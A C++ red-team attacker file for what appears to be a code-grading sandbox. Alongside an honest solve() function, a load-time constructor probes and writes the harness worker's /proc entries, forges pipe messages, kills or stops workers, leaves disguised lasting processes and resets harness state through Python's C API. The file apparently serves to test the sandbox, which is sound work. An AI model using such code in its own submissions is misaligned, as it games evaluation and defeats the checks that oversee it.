// Red-team (session 52) attacker: honest solve (fault pack MODE 0) plus a constructor doing ATK:
// 1 recon+write tries on ref.py's infra worker (/proc/PID/{mem,task/T/mem,oom_score_adj,timerslack_ns,
//   comm,clear_refs,attr/current,coredump_filter,loginuid}, pidfd_getfd, mount_setattr/open_tree/fsopen)
// 2 forge {"stage":"prepared","first":true} on the answer pipe, then fork a lasting child
// 3 kill (SIGKILL) ref.py's infra worker   4 SIGSTOP it
// 5 fork a child that exec's into "python -c import time; time.sleep(600)" (looks like the worker)
// 6 offload: spawn child that spins (busy) and exits before job end? no: stays (leftover check)
#include <algorithm>
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <dlfcn.h>
#include <sys/prctl.h>
#ifndef ATK
#define ATK 1
#endif
static void honest(const float* x, float* y, int N) {
  for (int i = 0; i < N; ++i) { float v = x[i], acc = 0.f;
    for (int k = 0; k < 16; ++k) acc = acc * v + 0.5f; y[i] = acc; }
}
static int find(const char* needle) {
  DIR* d = opendir("/proc"); struct dirent* e; int found = 0;
  while (d && (e = readdir(d))) { if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
    char p[300], c[400] = {0}; snprintf(p, sizeof p, "/proc/%s/cmdline", e->d_name);
    FILE* g = fopen(p, "r"); size_t k = g ? fread(c, 1, 399, g) : 0; if (g) fclose(g);
    for (size_t i = 0; i < k; ++i) if (!c[i]) c[i] = ' ';
    if (strstr(c, needle) && atoi(e->d_name) != getpid()) { found = atoi(e->d_name); break; } }
  if (d) closedir(d); return found;
}
static void tryw(int pid, const char* f, const char* val) {
  char p[128]; snprintf(p, sizeof p, "/proc/%d/%s", pid, f);
  int fd = open(p, O_WRONLY);
  if (fd < 0) { fprintf(stderr, "ATK open-w %s: %s\n", p, strerror(errno)); return; }
  ssize_t w = write(fd, val, strlen(val));
  fprintf(stderr, "ATK write %s: %zd %s\n", p, w, w < 0 ? strerror(errno) : "OK");
  close(fd);
}
static void forge() {
  const char* m = "{\"progress\": true, \"stage\": \"prepared\", \"first\": true}";
  unsigned n = strlen(m); unsigned char hdr[4] = {(unsigned char)(n >> 24), (unsigned char)(n >> 16), (unsigned char)(n >> 8), (unsigned char)n};
  for (int fd = 3; fd < 256; ++fd) { struct stat st; int fl = fcntl(fd, F_GETFL);
    if (fl < 0 || fstat(fd, &st) || !S_ISFIFO(st.st_mode) || (fl & O_ACCMODE) != O_WRONLY) continue;
    write(fd, hdr, 4); write(fd, m, n);
    fprintf(stderr, "ATK forged 'first' on fd %d\n", fd); }
}
__attribute__((constructor)) static void atk() {
  int pid = find("time.sleep(600)");
  fprintf(stderr, "ATK mode %d worker pid=%d me=%d\n", ATK, pid, getpid());
  if (ATK == 1 && pid) {
    const char* files[][2] = {{"mem", "xx"}, {"oom_score_adj", "1000"}, {"timerslack_ns", "100000000"},
      {"comm", "pwned"}, {"clear_refs", "1"}, {"attr/current", "x"}, {"coredump_filter", "0"},
      {"loginuid", "5"}, {"sched_autogroup", "nice 19"}, {"setgroups", "deny"}, {"uid_map", "0 0 1"},
      {"projid_map", "0 0 1"}, {"autogroup", "19"}, {"fail-nth", "1"}, {"make-it-fail", "1"}};
    for (auto& f : files) tryw(pid, f[0], f[1]);
    char p[128]; snprintf(p, sizeof p, "task/%d/mem", pid); tryw(pid, p, "xx");
    snprintf(p, sizeof p, "task/%d/comm", pid); tryw(pid, p, "pwned");
    tryw(getpid(), "comm", "selfname");  // pthread_setname_np-like on own thread
    int self = open("/proc/self/maps", O_RDONLY); char buf[64]; ssize_t r = self >= 0 ? read(self, buf, 64) : -1;
    fprintf(stderr, "ATK read /proc/self/maps: %zd\n", r); if (self >= 0) close(self);
    int pfd = syscall(434 /*pidfd_open*/, pid, 0);
    fprintf(stderr, "ATK pidfd_open: %d %s\n", pfd, pfd < 0 ? strerror(errno) : "");
    if (pfd >= 0) for (int t = 0; t < 4; ++t) { int g = syscall(438 /*pidfd_getfd*/, pfd, t, 0);
      fprintf(stderr, "ATK pidfd_getfd(%d): %d %s\n", t, g, g < 0 ? strerror(errno) : "OK"); }
    struct { unsigned long long set, clr, prop, ns; } attr = {0, 1 /*RDONLY*/, 0, 0};
    long r2 = syscall(442 /*mount_setattr*/, AT_FDCWD, "/proc", 0, &attr, sizeof attr);
    fprintf(stderr, "ATK mount_setattr(/proc, clr RDONLY): %ld %s\n", r2, r2 < 0 ? strerror(errno) : "OK");
    long r3 = syscall(428 /*open_tree*/, AT_FDCWD, "/proc", 1 /*OPEN_TREE_CLONE*/);
    fprintf(stderr, "ATK open_tree(/proc, CLONE): %ld %s\n", r3, r3 < 0 ? strerror(errno) : "OK");
    long r4 = syscall(430 /*fsopen*/, "proc", 0);
    fprintf(stderr, "ATK fsopen(proc): %ld %s\n", r4, r4 < 0 ? strerror(errno) : "OK");
    long r5 = syscall(433 /*fspick*/, AT_FDCWD, "/proc", 0);
    fprintf(stderr, "ATK fspick(/proc): %ld %s\n", r5, r5 < 0 ? strerror(errno) : "OK");
    // a write-open through a magic link of the worker: its fds (pipes/devnull) and root/cwd
    for (int t = 0; t < 4; ++t) { snprintf(p, sizeof p, "/proc/%d/fd/%d", pid, t);
      int g = open(p, O_WRONLY); fprintf(stderr, "ATK open-w %s: %d %s\n", p, g, g < 0 ? strerror(errno) : "OK"); if (g >= 0) close(g); }
  }
  if (ATK == 2) { forge(); if (fork() == 0) { for (;;) pause(); } }
  if (ATK == 3 && pid) fprintf(stderr, "ATK kill: %d\n", kill(pid, SIGKILL));
  if (ATK == 4 && pid) fprintf(stderr, "ATK stop: %d\n", kill(pid, SIGSTOP));
  if (ATK == 6 || ATK == 7) {  // ref.py's multiprocessing pool worker: a child of this process
    DIR* d = opendir("/proc"); struct dirent* e;
    while (d && (e = readdir(d))) { int q = atoi(e->d_name); if (q <= 0 || q == getpid()) continue;
      char p[64], l[256]; snprintf(p, sizeof p, "/proc/%d/status", q); FILE* g = fopen(p, "r"); int pp = -1;
      while (g && fgets(l, sizeof l, g)) if (!strncmp(l, "PPid:", 5)) pp = atoi(l + 5);
      if (g) fclose(g);
      if (pp == getpid()) fprintf(stderr, "ATK %s pool worker %d: %d\n", ATK == 6 ? "stop" : "kill", q, kill(q, ATK == 6 ? SIGSTOP : SIGKILL)); }
    if (d) closedir(d); }
  if (ATK == 8) { if (fork() == 0) { setsid(); if (fork() == 0) { prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);
        prctl(PR_SET_NAME, "python3", 0, 0, 0); for (;;) pause(); } _exit(0); } usleep(50000); }
  if (ATK == 9) {  // reset the harness's told_prepared through Python's C API: the next job's
    // "prepared" says "first" again and waits for a "go" the sandbox does not send
    typedef int (*G)(); typedef void (*R)(int); typedef int (*S)(const char*);
    G ens = (G)dlsym(RTLD_DEFAULT, "PyGILState_Ensure"); R rel = (R)dlsym(RTLD_DEFAULT, "PyGILState_Release");
    S run = (S)dlsym(RTLD_DEFAULT, "PyRun_SimpleString");
    if (ens && rel && run) { int g = ens(); int rc = run("import gc\nfor o in gc.get_objects():\n    if type(o).__name__ == 'Harness': o.told_prepared = False\n"); rel(g);
      fprintf(stderr, "ATK told_prepared reset rc=%d\n", rc); } else fprintf(stderr, "ATK no python api\n"); }
  if (ATK == 5) { if (fork() == 0) { setsid(); execl("/proc/self/exe", "python3", "-c", "import time; time.sleep(600)", (char*)0);
      execlp("python3", "python3", "-c", "import time; time.sleep(600)", (char*)0); _exit(1); } }
}
extern "C" void solve(const float* x, float* buf, float* y, int N) { honest(x, y, N); std::sort(buf, buf + N); }
